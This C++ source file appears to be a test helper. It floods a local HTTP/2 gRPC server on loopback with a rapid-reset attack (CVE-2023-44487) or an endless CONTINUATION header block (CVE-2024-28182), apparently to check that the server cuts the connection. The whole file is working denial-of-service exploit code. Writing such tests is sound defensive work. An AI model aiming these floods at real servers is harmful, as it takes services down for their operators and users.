// An HTTP/2 client that floods one connection to 127.0.0.1:PORT until the
// server ends it or it is killed: a process of its own, as an attacker is,
// so that it keeps the connection as full as the server reads it.
//   http2_flood_client PORT rapid_reset
//     opens streams and resets them at once, in a loop (CVE-2023-44487);
//     prints "attacking" once the server has read 20 000 streams.
//   http2_flood_client PORT continuation
//     opens one stream whose header block never ends: CONTINUATION frames of
//     16 KB header fields (CVE-2024-28182); prints "attacking" once the
//     server has read 16 MB of them.
// Exits 0 when the server ends the connection.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>

namespace {

void AppendFrame(std::string* out, int type, int flags, uint32_t stream, const std::string& body) {
  const size_t n = body.size();
  const char header[9] = {static_cast<char>(n >> 16), static_cast<char>(n >> 8),
                          static_cast<char>(n),       static_cast<char>(type),
                          static_cast<char>(flags),   static_cast<char>(stream >> 24),
                          static_cast<char>(stream >> 16), static_cast<char>(stream >> 8),
                          static_cast<char>(stream)};
  out->append(header, 9);
  out->append(body);
}

// An HPACK literal header field without indexing, no Huffman (RFC 7541 6.2.2).
std::string Literal(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + static_cast<char>(name.size()) + name +
         static_cast<char>(value.size()) + value;
}

// A Stats call's request headers (the path any client may name).
std::string StatsHeaders() {
  return Literal(":method", "POST") + Literal(":scheme", "http") +
         Literal(":path", "/pst.ParameterServer/Stats") + Literal(":authority", "127.0.0.1") +
         Literal("content-type", "application/grpc") + Literal("te", "trailers");
}

// Frames for the next round: 1 000 streams opened and reset, or 1 000
// CONTINUATION frames of the one header block (whose HEADERS frame, without
// END_HEADERS, the first round carries).
class Flood {
 public:
  explicit Flood(bool continuation) : continuation_(continuation) {}

  std::string NextRound() {
    std::string out;
    if (rounds_ == 0) {
      out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
      AppendFrame(&out, /*SETTINGS=*/4, 0, 0, "");
      if (continuation_) AppendFrame(&out, /*HEADERS=*/1, 0, 1, StatsHeaders());
    }
    ++rounds_;
    if (continuation_) {
      const std::string field = Literal("x-flood", std::string(120, 'x'));
      std::string fields;
      while (fields.size() + field.size() <= 16'000) fields += field;
      for (int i = 0; i < 1000; ++i) AppendFrame(&out, /*CONTINUATION=*/9, 0, 1, fields);
      return out;
    }
    const std::string headers = StatsHeaders(), cancel("\0\0\0\x8", 4);
    for (int i = 0; i < 1000; ++i, stream_ += 2) {
      AppendFrame(&out, /*HEADERS=*/1, /*END_HEADERS=*/4, stream_, headers);
      AppendFrame(&out, /*RST_STREAM=*/3, 0, stream_, cancel);
    }
    return out;
  }

  // Rounds sent before "attacking" is printed: 20 000 streams, or 16 MB of
  // header fields.
  int rounds_before_attacking() const { return continuation_ ? 1 : 20; }

 private:
  const bool continuation_;
  int rounds_ = 0;
  uint32_t stream_ = 1;
};

// Sends the flood's rounds on one connection, as fast as the server reads
// them, until the server closes the connection.
void Attack(int port, Flood flood) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
    close(fd);
    return;
  }
  // What the server sends (its SETTINGS, its resets) is read and dropped,
  // so that it never waits on this client.
  std::thread drain([fd] {
    char buffer[1 << 16];
    while (read(fd, buffer, sizeof(buffer)) > 0) {
    }
  });
  bool open = true;
  for (int round = 1; open; ++round) {
    const std::string out = flood.NextRound();
    for (size_t done = 0; open && done < out.size();) {
      const ssize_t n = send(fd, out.data() + done, out.size() - done, MSG_NOSIGNAL);
      open = n > 0;
      if (open) done += static_cast<size_t>(n);
    }
    if (open && round == flood.rounds_before_attacking()) {
      std::puts("attacking");
      std::fflush(stdout);
    }
  }
  shutdown(fd, SHUT_RDWR);
  drain.join();
  close(fd);
}

}  // namespace

int main(int argc, char** argv) {
  const std::string kind = argc == 3 ? argv[2] : "";
  if (kind != "rapid_reset" && kind != "continuation") {
    std::fprintf(stderr, "usage: http2_flood_client PORT rapid_reset|continuation\n");
    return 2;
  }
  Attack(std::atoi(argv[1]), Flood(kind == "continuation"));
  return 0;
}
